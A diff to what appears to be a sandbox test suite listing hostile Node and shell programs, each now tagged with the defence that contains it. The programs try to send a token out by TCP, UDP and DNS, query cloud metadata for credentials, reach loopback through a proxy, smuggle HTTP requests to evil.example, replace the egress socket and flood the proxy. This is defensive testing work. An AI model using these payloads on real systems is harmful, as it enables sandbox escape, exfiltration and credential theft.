@@ -6,7 +6,7 @@ const CONNECT = `import { connect } from 'node:net'
     const socket = connect(options)
     socket.setTimeout(1500, () => socket.destroy())
     socket.on('error', () => {}).on('close', resolve)
-    socket.on('connect', () => console.log('LEAK ' + what)).on('data', (data) => console.log(String(data)))
+    socket.on('connect', () => { console.log('LEAK ' + what); socket.write(process.env.HOSTILE_TOKEN) }).on('data', (data) => console.log(String(data)))
   })
   const { env } = process
 `
@@ -30,6 +30,7 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'host-loopback',
     intent: "connect to a server on the host's loopback address",
+    containedBy: 'network namespace without an interface',
     interpreter: 'node',
     text: `${CONNECT}; await reach({ host: '127.0.0.1', port: +env.PORT }, 'loopback'); await reach({ host: '::1', port: +env.PORT }, 'loopback v6')`,
     isFast: true,
@@ -38,6 +39,7 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'host-address',
     intent: "connect to a server on the host's own address",
+    containedBy: 'network namespace without an interface',
     interpreter: 'node',
     text: `${CONNECT}; await reach({ host: env.HOSTIP, port: +env.PORT }, 'host address')`,
     isHarmless: true,
@@ -45,10 +47,11 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'udp',
     intent: 'send datagrams to the host and the internet',
+    containedBy: 'network namespace without an interface',
     interpreter: 'node',
     text: `import { createSocket } from 'node:dgram'
       const socket = createSocket('udp4')
-      const send = (host, port) => new Promise((resolve) => socket.send('x', port, host, (error) => resolve(error)))
+      const send = (host, port) => new Promise((resolve) => socket.send(process.env.HOSTILE_TOKEN, port, host, (error) => resolve(error)))
       await send('127.0.0.1', +process.env.PORT); await send(process.env.HOSTIP, +process.env.PORT)
       for (const host of ['1.1.1.1', '255.255.255.255', '224.0.0.1']) if (!(await send(host, 53))) console.log('LEAK datagram to ' + host)
       socket.close()`,
@@ -56,6 +59,7 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'unix-socket',
     intent: 'connect to a unix socket of the host',
+    containedBy: 'mount namespace: the socket is not there',
     interpreter: 'node',
     text: `${CONNECT}; await reach({ path: env.OUTSIDE + '/service.sock' }, 'unix socket')`,
     isFast: true,
@@ -64,6 +68,7 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'abstract-socket',
     intent: 'connect to an abstract unix socket of the host',
+    containedBy: 'network namespace: abstract names are its own',
     interpreter: 'node',
     text: `${CONNECT}; await reach({ path: '\\0' + env.ABSTRACT }, 'abstract socket')`,
     isHarmless: true,
@@ -71,6 +76,7 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'dns',
     intent: 'carry data out in name lookups',
+    containedBy: 'network namespace without an interface',
     interpreter: 'node',
     text: `import dns from 'node:dns/promises'
       for (const name of ['example.com', process.env.HOSTILE_TOKEN + '.example.com'])
@@ -81,12 +87,14 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'cloud-metadata',
     intent: "ask the cloud's metadata service for credentials",
+    containedBy: 'network namespace without an interface',
     interpreter: 'node',
     text: `${CONNECT}; await reach({ host: '169.254.169.254', port: 80 }, 'metadata'); await reach({ host: 'fd00:ec2::254', port: 80 }, 'metadata v6')`,
   },
   {
     name: 'interfaces',
     intent: 'see network interfaces besides its own loopback',
+    containedBy: 'network namespace without an interface',
     interpreter: 'node',
     text: `import os from 'node:os'
       for (const [name, entries] of Object.entries(os.networkInterfaces())) if (entries.some((e) => !e.internal)) console.log('LEAK interface ' + name)`,
@@ -95,12 +103,14 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'raw-sockets',
     intent: 'send raw packets',
+    containedBy: 'network namespace, no capabilities',
     interpreter: 'sh',
     text: 'command -v ping >/dev/null && ping -c1 -W1 1.1.1.1 >/dev/null 2>&1 && echo LEAK ping; ip link add x type dummy 2>/dev/null && echo LEAK new interface; exit 0',
   },
   {
     name: 'no-proxy-without-policy',
     intent: 'use the egress proxy although its policy allows no network',
+    containedBy: 'the egress socket is bound in for a policy that names hosts only',
     interpreter: 'node',
     text: `${CONNECT}; await reach({ path: '/opt/codex/egress.sock' }, 'egress socket'); await reach({ host: '127.0.0.1', port: 46128 }, 'egress bridge')`,
     isFast: true,
@@ -108,17 +118,19 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'proxy-to-loopback',
     intent: "reach the host's loopback through the proxy, in every spelling",
+    containedBy: 'names are compared literally, and addresses checked after the lookup',
     interpreter: 'node',
     network: 'proxy',
     text: `${ASK_PROXY}
       for (const host of ['127.0.0.1', 'localhost', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]', '2130706433', '0x7f000001', '0177.0.0.1', '127.1', 'localhost.', 'LOCALHOST', env.HOSTIP, '@localhost', 'registry.example@localhost', '%6cocalhost']) {
-        await ask('GET http://' + host + ':' + env.PORT + '/'); await ask('CONNECT ' + host + ':' + env.PORT)
+        await ask('GET http://' + host + ':' + env.PORT + '/' + env.HOSTILE_TOKEN); await ask('CONNECT ' + host + ':' + env.PORT)
       }`,
     isFast: true,
   },
   {
     name: 'proxy-to-others',
     intent: 'reach hosts and ports that are not on the allow list',
+    containedBy: 'allow list of the egress proxy',
     interpreter: 'node',
     network: 'proxy',
     text: `${ASK_PROXY}
@@ -132,18 +144,21 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'proxy-header-smuggling',
     intent: 'lead the proxy elsewhere by its Host header or a second request',
+    containedBy: 'the proxy forwards to the checked destination, whatever the headers say',
     interpreter: 'node',
     network: 'proxy',
     text: `${ASK_PROXY}
       const local = 'localhost:' + env.PORT
-      await ask('GET http://registry.example:443/', 'Host: ' + local + '\\r\\nX-Forwarded-Host: ' + local + '\\r\\n')
+      const path = '/' + env.HOSTILE_TOKEN
+      await ask('GET http://registry.example:443' + path, 'Host: ' + local + '\\r\\nX-Forwarded-Host: ' + local + '\\r\\n')
       await ask('GET http://evil.example/', 'Host: registry.example:443\\r\\n')
-      await ask('POST http://evil.example/', 'Host: a\\r\\nContent-Length: 0\\r\\n\\r\\nGET http://' + local + '/ HTTP/1.1\\r\\nHost: b\\r\\n')
-      await ask('GET http://evil.example/', 'Host: a\\r\\nTransfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n\\r\\n0\\r\\n\\r\\nGET http://' + local + '/ HTTP/1.1\\r\\nHost: b\\r\\n')`,
+      await ask('POST http://evil.example/', 'Host: a\\r\\nContent-Length: 0\\r\\n\\r\\nGET http://' + local + path + ' HTTP/1.1\\r\\nHost: b\\r\\n')
+      await ask('GET http://evil.example/', 'Host: a\\r\\nTransfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n\\r\\n0\\r\\n\\r\\nGET http://' + local + path + ' HTTP/1.1\\r\\nHost: b\\r\\n')`,
   },
   {
     name: 'proxy-takeover',
     intent: 'replace the egress socket or the bridge for whoever comes next',
+    containedBy: 'read-only mounts and no capability to change them',
     interpreter: 'sh',
     network: 'proxy',
     text: 'exec 2>/dev/null; rm /opt/codex/egress.sock && echo LEAK socket removed; mv /opt/codex/egress.sock /opt/codex/x && echo LEAK socket moved; ln -sf "$OUTSIDE/service.sock" /opt/codex/egress.sock && echo LEAK socket replaced; chmod 777 /opt/codex && touch /opt/codex/x && echo LEAK folder opened; exit 0',
@@ -151,6 +166,7 @@ export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
   {
     name: 'proxy-flood',
     intent: 'exhaust the proxy with connections',
+    containedBy: 'connection limit of the proxy',
     interpreter: 'node',
     network: 'proxy',
     text: `import { connect } from 'node:net'
